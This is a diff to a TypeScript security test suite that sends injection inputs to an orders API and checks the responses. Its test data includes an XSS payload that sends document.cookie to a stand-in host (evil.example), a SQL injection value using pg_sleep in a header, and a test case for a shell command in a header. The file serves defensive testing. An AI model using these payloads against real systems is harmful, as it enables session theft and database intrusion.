@@ -1,5 +1,5 @@
 import { randomUUID } from 'node:crypto'
-import { send } from '../../targets/send.ts'
+import { type Answer, send } from '../../targets/send.ts'
 import { type Attack, attack, type Scene } from '../attack.ts'
 import { draft } from '../world.ts'
 
@@ -10,6 +10,14 @@ const search = ({ baseUrl, world, address }: Scene, q: string) =>
 
 const create = ({ baseUrl, world, address }: Scene, json: object, headers = {}) =>
   send(baseUrl, '/api/orders', { method: 'POST', token: world.token('owner'), from: address(), json, headers })
+
+const script = '<script>fetch("https://evil.example/" + document.cookie)</script>'
+
+const [line] = draft.lines
+const descriptions = [...Array.from({ length: 99 }, (_, index) => `Desk lamp, number ${index}`), script]
+
+const runsInABrowser = ({ headers }: Answer) =>
+  !/json/.test(headers['content-type'] ?? '') || headers['x-content-type-options'] !== 'nosniff'
 
 /** Text that is kept and given back as text harms nobody; what runs, breaks a query or reads a file does. */
 export const injections: Attack[] = [
@@ -34,10 +42,11 @@ export const injections: Attack[] = [
     scene => create(scene, draft, { 'idempotency-key': "x' OR pg_sleep(5) IS NULL OR '1'='1" }),
     ({ status }) => status === 500,
   ),
+  attack('script in an order’s note', scene => create(scene, { ...draft, note: script }), runsInABrowser),
   attack(
-    'script in an order’s note',
-    scene => create(scene, { ...draft, note: '<script>fetch("https://evil.example/" + document.cookie)</script>' }),
-    ({ headers }) => !/json/.test(headers['content-type'] ?? '') || headers['x-content-type-options'] !== 'nosniff',
+    'script in the last of 100 descriptions',
+    scene => create(scene, { ...draft, lines: descriptions.map(description => ({ ...line, description })) }),
+    runsInABrowser,
   ),
   attack(
     'shell command in a header',
